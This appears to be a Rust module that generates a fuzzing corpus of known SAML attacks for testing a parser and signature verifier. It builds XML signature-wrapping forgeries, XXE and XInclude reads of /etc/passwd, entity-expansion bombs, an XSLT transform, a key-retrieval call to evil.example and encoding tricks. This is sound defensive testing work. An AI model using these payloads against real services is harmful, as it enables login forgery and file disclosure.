//! The attacks that are known, as a fuzzer's starting points.

use super::Corpus;

fn cut<'x>(xml: &'x str, start: &str, end: &str) -> &'x str {
    let from = xml.find(start).unwrap_or_else(|| panic!("no {start}"));
    let to = xml[from..].find(end).unwrap_or_else(|| panic!("no {end}"));
    &xml[from..from + to + end.len()]
}

fn swap(xml: &str, from: &str, to: &str) -> String {
    assert!(xml.contains(from), "no {from}");
    xml.replacen(from, to, 1)
}

/// On a signed AuthnRequest.
pub fn on_messages(corpus: &Corpus, with_certificate: &str) {
    let signed = super::short(with_certificate);
    let put = |name: &str, xml: String| corpus.put(&format!("post/attack-{name}.xml"), xml);
    let signature = cut(&signed, "<ds:Signature ", "</ds:Signature>");
    let bare = swap(&signed, signature, "");
    let forged = swap(&swap(&bare, "_authn-4", "_forged"), "/saml/acs", "/evil");
    let after_issuer = |piece: &str| swap(&forged, "</saml:Issuer>", &format!("</saml:Issuer>{piece}"));
    let inside = |piece: &str| swap(signature, "</ds:Signature>", &format!("{piece}</ds:Signature>"));
    put("xsw1", after_issuer(&inside(&bare)));
    put("xsw2", after_issuer(&format!("{bare}{signature}")));
    put(
        "xsw7",
        after_issuer(&format!("<samlp:Extensions>{signed}</samlp:Extensions>")),
    );
    put("xsw8", after_issuer(&inside(&format!("<ds:Object>{bare}</ds:Object>"))));
    put(
        "duplicate-id",
        swap(&bare, "</samlp:AuthnRequest>", &format!("{bare}</samlp:AuthnRequest>")),
    );
    for (name, splitter) in [
        ("comment", "<!---->"),
        ("cdata", "<![CDATA[x]]>"),
        ("instruction", "<?x?>"),
        ("element", "<x/>"),
    ] {
        put(
            name,
            swap(&bare, "fuzz.example</", &format!("fuzz{splitter}.example</")),
        );
    }
    put(
        "references",
        swap(&bare, "fuzz.example</", "&#102;uzz&#x2e;example&amp;&lt;&#x1F600;</"),
    );
    put("nul", swap(&bare, "fuzz.example</", "fuzz&#0;.example</"));
    put(
        "doctype",
        format!("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>{bare}"),
    );
    let entities = "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>";
    put(
        "entities",
        format!("{entities}{}", swap(&bare, "fuzz.example</", "&c;</")),
    );
    let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>";
    put(
        "xinclude",
        swap(&bare, "</saml:Issuer>", &format!("</saml:Issuer>{include}")),
    );
    put("relative-namespace", swap(&signed, " ID=", " xmlns:r=\"1\" ID="));
    put("polluted-attribute", swap(&signed, " ID=", " samlp:ID=\"_x\" ID="));
    put("two-attributes", swap(&signed, " ID=", " Id=\"_x\" ID="));
    let info = cut(&signed, "<ds:SignedInfo>", "</ds:SignedInfo>");
    put("two-signed-infos", swap(&signed, info, &format!("{info}{info}")));
    put(
        "digest-comment",
        swap(&signed, "<ds:DigestValue>", "<ds:DigestValue><!--x-->"),
    );
    put("hmac", swap(&signed, "rsa-sha256", "hmac-sha256"));
    let exclusive = "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>";
    let stylesheet = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"/></ds:Transform>";
    put("xslt", swap(&signed, exclusive, stylesheet));
    put(
        "external-reference",
        swap(&signed, "URI=\"#_authn-4\"", "URI=\"file:///etc/passwd\""),
    );
    let retrieval = "</ds:SignatureValue><ds:KeyInfo><ds:RetrievalMethod URI=\"https://evil.example/\"/></ds:KeyInfo>";
    put("retrieval-method", swap(&signed, "</ds:SignatureValue>", retrieval));
    put(
        "deep",
        swap(
            &bare,
            "</saml:Issuer>",
            &format!("</saml:Issuer>{}{}", "<a>".repeat(40), "</a>".repeat(40)),
        ),
    );
    let attributes: String = (0..260).map(|n| format!(" a{n}=\"\"")).collect();
    put("attributes", swap(&bare, " ID=", &format!("{attributes} ID=")));
    let namespaces: String = (0..60).map(|n| format!(" xmlns:n{n}=\"urn:{n}\"")).collect();
    put("namespaces", swap(&bare, " ID=", &format!("{namespaces} ID=")));
    let default = bare.replace("samlp:", "").replace("xmlns:samlp", "xmlns");
    put("default-namespace", default);
    put(
        "another-encoding",
        format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{bare}"),
    );
    put(
        "version-1.1",
        format!(
            "<?xml version=\"1.1\"?>{}",
            swap(&bare, "fuzz.example</", "fuzz&#1;.example</")
        ),
    );
    put(
        "no-attributes",
        "<samlp:AuthnRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>".to_owned(),
    );
    let wide: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(bare.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    corpus.put("post/attack-utf-16.bin", wide);
    let overlong = [b"<".as_slice(), &[0xc0, 0xbc], &bare.as_bytes()[1..]].concat();
    corpus.put("post/attack-overlong.bin", overlong);
    corpus.put("post/attack-bom.bin", format!("\u{feff}{signed}"));
}

/// On a response whose assertion is signed.
pub fn on_responses(corpus: &Corpus, signed: &str) {
    let put = |name: &str, xml: String| corpus.put(&format!("response/attack-{name}.xml"), xml);
    let assertion = cut(signed, "<saml:Assertion", "</saml:Assertion>");
    let signature = cut(assertion, "<ds:Signature ", "</ds:Signature>");
    let bare = swap(assertion, signature, "");
    let forged = swap(&swap(&bare, "alice@", "mallory@"), "_one-assertion", "_forged");
    put("xsw3", swap(signed, assertion, &format!("{forged}{assertion}")));
    put(
        "xsw4",
        swap(
            signed,
            assertion,
            &swap(&forged, "</saml:Assertion>", &format!("{assertion}</saml:Assertion>")),
        ),
    );
    let keeping = swap(&forged, "</saml:Issuer>", &format!("</saml:Issuer>{signature}"));
    put("xsw5", swap(signed, assertion, &format!("{keeping}{bare}")));
    let object = swap(
        signature,
        "</ds:Signature>",
        &format!("<ds:Object>{bare}</ds:Object></ds:Signature>"),
    );
    put(
        "xsw8",
        swap(
            signed,
            assertion,
            &swap(&forged, "</saml:Issuer>", &format!("</saml:Issuer>{object}")),
        ),
    );
    put("unsigned", swap(signed, assertion, &forged));
    put(
        "comment",
        swap(signed, "alice@example.com", "alice@example.com<!---->.evil.example"),
    );
    put(
        "condition",
        swap(
            signed,
            "<saml:AudienceRestriction>",
            "<saml:OneTimeUse/><saml:AudienceRestriction>",
        ),
    );
    put(
        "encrypted",
        swap(signed, assertion, include_str!("encrypted.xml").trim_end()),
    );
}
